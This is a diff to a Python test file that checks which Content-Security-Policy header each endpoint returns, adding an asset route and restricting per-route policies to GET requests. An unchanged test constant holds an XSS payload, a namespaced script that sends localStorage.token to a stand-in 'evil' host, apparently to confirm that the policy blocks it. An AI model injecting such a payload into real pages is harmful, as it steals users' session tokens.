@@ -9,6 +9,7 @@ from atrium.edge.app import STRICTEST
 from atrium.edge.endpoint import Endpoint
 from atrium.kit.http import policy_of
 from atrium.product.console.page import POLICY, WORKER_POLICY
+from atrium.product.onboarding.handlers import ASSET_POLICY
 from atrium.seams.routes import Auth
 from tests.client import Answer, Client
 from tests.contract.rows import ENDPOINTS, name_of
@@ -22,7 +23,7 @@ STRICT = STRICTEST.decode()
 SANDBOXED, PDF = policy_of(shows_pdf=False), policy_of(shows_pdf=True)
 # The only rows whose replies run under a policy of their own.
 OWN = {"/": POLICY, "/index.html": POLICY, "/login": POLICY, "/activate": POLICY, "/sw.js": WORKER_POLICY}
-SHOWING = {"/api/repo-obj/:id/content": SANDBOXED}
+SHOWING = {"/api/repo-obj/:id/content": SANDBOXED, "/api/beta/asset/:id": ASSET_POLICY}
 SCRIPT = b'<x:script xmlns:x="http://www.w3.org/1999/xhtml">fetch("//evil/"+localStorage.token)</x:script>'
 
 
@@ -47,7 +48,8 @@ def policy_for(endpoint: Endpoint, answer: Answer) -> str:
     path = endpoint.route.path
     if answer.status == 200 and path == "/docs":
         return answer.headers["content-security-policy"] if "style-src 'sha256-" in str(answer.headers) else STRICT
-    return (OWN | SHOWING).get(path, STRICT) if answer.status == 200 else STRICT
+    own = OWN | SHOWING if endpoint.route.method == "GET" else OWN
+    return own.get(path, STRICT) if answer.status == 200 else STRICT
 
 
 @pytest.mark.parametrize("endpoint", ENDPOINTS, ids=name_of)
